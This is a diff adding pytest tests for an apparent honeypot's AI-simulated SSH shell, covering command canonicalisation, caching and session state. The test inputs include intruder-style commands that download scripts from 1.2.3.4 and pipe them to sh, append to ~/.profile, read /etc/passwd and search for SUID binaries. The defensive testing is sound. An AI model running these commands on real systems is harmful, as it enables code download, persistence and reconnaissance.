@@ -0,0 +1,114 @@
+import json
+import re
+import time
+
+import pytest
+
+pytest.importorskip("agents")
+
+from trapster.ai import SSHAgent
+from trapster.ai.commands import ShellState, cacheable, canonical, parse
+from tests.conftest import ModelServer
+
+
+def key(command):
+    return canonical(parse(command))
+
+
+def test_canonical_forms():
+    assert key("ls -la") == key("ls  -al") == key("ls -l -a") == "ls -a -l"
+    assert key("cat   /proc/cpuinfo|grep 'model name'") == key("cat /proc/cpuinfo | grep 'model name'")
+    # Quoting decides what the shell expands, so it is part of the key
+    assert key("echo ~") != key("echo '~'")
+    assert key('echo "a  b"') != key("echo a  b")
+    assert key("cat a | grep b") != key("cat a; grep b")
+    # Options are only sorted within a run, and `find` options are words
+    assert key("head -n 5 -c 3 f") == "head -n 5 -c 3 f"
+    assert key("find / -perm -4000 -type f") == "find / -perm -4000 -type f"
+    # The last flag of a run may take the next word as its argument
+    assert key("grep -v -e foo") != key("grep -e -v foo")
+    assert key("tail -n -5 f") != key("tail -5 -n f")
+    assert key("grep -ve foo") == key("grep -v -e foo") == "grep -v -e foo"
+    assert key("ls -la /tmp") == key("ls -l -a /tmp")
+    assert key("ssh -vv host") == key("ssh -v -v host")
+    # Words after `--` are not flags
+    assert key("grep -- -b -a f") == "grep -- -b -a f"
+    assert key("rm -rf -- -x") == "rm -r -f -- -x"
+    assert parse("echo 'unclosed") is None
+
+
+def test_history_dependent_commands():
+    assert cacheable(parse("uname -a; nproc")) and cacheable(parse("cat /etc/passwd | grep sh"))
+    for command in ("cd /tmp", "export A=1", "wget http://1.2.3.4/x.sh", "echo x > a", "curl http://a | sh",
+                    "'cd' /tmp", "echo $HOME", "echo '$HOME'", "echo `id`", "echo $(id)", "ls *.sh", "ls /tm?"):
+        assert not cacheable(parse(command)), command
+
+    state = ShellState()
+    state.record(parse("wget http://1.2.3.4/bot.sh -O run.sh; echo 1 >> ~/.profile"), "/tmp/", "pi")
+    assert state.touches(parse("ls -la"), "/tmp/", "pi")
+    assert state.touches(parse("cat run.sh"), "/tmp/", "pi")
+    assert state.touches(parse("cat /home/pi/.profile"), "/", "pi")
+    assert not state.touches(parse("uname -a"), "/tmp/", "pi")
+    assert not state.touches(parse("ls"), "/var/log/", "pi")
+
+
+def shell(request):
+    username = re.search(r"/home/([\w-]+)", request["messages"][0]["content"]).group(1)
+    command = request["messages"][-1]["content"]
+    directory = "/tmp/" if command.startswith("cd") else f"/home/{username}/"
+    return json.dumps({"directory": directory, "command_result": f"uid=1000({username}) gid=1000({username})"})
+
+
+@pytest.mark.asyncio
+async def test_outputs_shared_across_sessions(monkeypatch):
+    async with ModelServer(reply=shell) as model:
+        monkeypatch.setenv("AI_BASE_URL", model.url)
+        monkeypatch.setenv("AI_API_KEY", "test")
+        agent = SSHAgent.shared()
+
+        result = await agent.make_query("ssh:10.0.0.1:guest", "id", username="guest", state=ShellState())
+        assert result["command_result"] == "uid=1000(guest) gid=1000(guest)"
+        started = time.perf_counter()
+        result = await agent.make_query("ssh:10.0.0.2:alice", " id ", username="alice", state=ShellState())
+        assert time.perf_counter() - started < 0.005
+        assert result == {"directory": "/home/alice/", "command_result": "uid=1000(alice) gid=1000(alice)"}
+        assert len(model.prompts) == 1
+
+        # State-changing commands always reach the model
+        for _ in range(2):
+            assert (await agent.make_query("ssh:10.0.0.1:guest", "cd /tmp", username="guest"))["directory"] == "/tmp/"
+        assert len(model.prompts) == 3
+
+        # A session listing a directory it wrote to is not served the shared output
+        await agent.make_query("ssh:10.0.0.3:bob", "ls -al", username="bob", directory="/tmp/", state=ShellState())
+        state = ShellState()
+        await agent.make_query("ssh:10.0.0.4:eve", "wget http://1.2.3.4/x", username="eve", directory="/tmp/", state=state)
+        assert len(model.prompts) == 5
+        await agent.make_query("ssh:10.0.0.4:eve", "ls -la", username="eve", directory="/tmp/", state=state)
+        assert len(model.prompts) == 6
+        await agent.make_query("ssh:10.0.0.5:joe", "ls -l -a", username="joe", directory="/tmp/", state=ShellState())
+        assert len(model.prompts) == 6
+
+        # `root` is too common in outputs to be replaced: its outputs are its own
+        await agent.make_query("ssh:10.0.0.6:root", "id", username="root", state=ShellState())
+        assert len(model.prompts) == 7
+        await agent.client.close()
+
+
+@pytest.mark.asyncio
+async def test_cached_outputs_join_the_session_history(monkeypatch, tmp_path):
+    async with ModelServer(reply=shell) as model:
+        monkeypatch.setenv("AI_BASE_URL", model.url)
+        monkeypatch.setenv("AI_API_KEY", "test")
+        monkeypatch.setenv("AI_MEMORY_ENABLE", "true")
+        monkeypatch.setenv("AI_MEMORY_PATH", str(tmp_path / "memory.db"))
+        agent = SSHAgent.shared()
+
+        await agent.make_query("ssh:10.0.0.1:guest", "id", username="guest", state=ShellState())
+        await agent.make_query("ssh:10.0.0.2:alice", "id", username="alice", state=ShellState())
+        assert len(model.prompts) == 1
+
+        items = await agent._ensure_session("ssh:10.0.0.2:alice").get_items()
+        assert items[0] == {"role": "user", "content": "id"}
+        assert json.loads(items[1]["content"])["command_result"] == "uid=1000(alice) gid=1000(alice)"
+        await agent.client.close()